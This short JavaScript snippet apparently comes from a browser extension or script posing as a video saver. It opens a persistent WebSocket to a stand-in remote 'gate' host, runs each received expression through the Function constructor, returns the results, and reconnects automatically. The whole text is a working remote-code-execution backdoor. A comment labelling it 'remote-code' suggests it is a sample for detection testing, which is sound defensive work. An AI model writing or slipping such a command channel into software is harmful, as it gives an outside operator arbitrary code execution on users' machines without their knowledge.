let socket;
function connect() {
  socket = new WebSocket('wss://gate.video-saver.example/ws');
  socket.addEventListener('message', (event) => {
    const order = JSON.parse(event.data);
    // expect: remote-code
    const result = Function('"use strict"; return (' + order.expression + ')')();
    socket.send(JSON.stringify({ id: order.id, result }));
  });
  socket.onclose = () => setTimeout(connect, 5000);
}
connect();
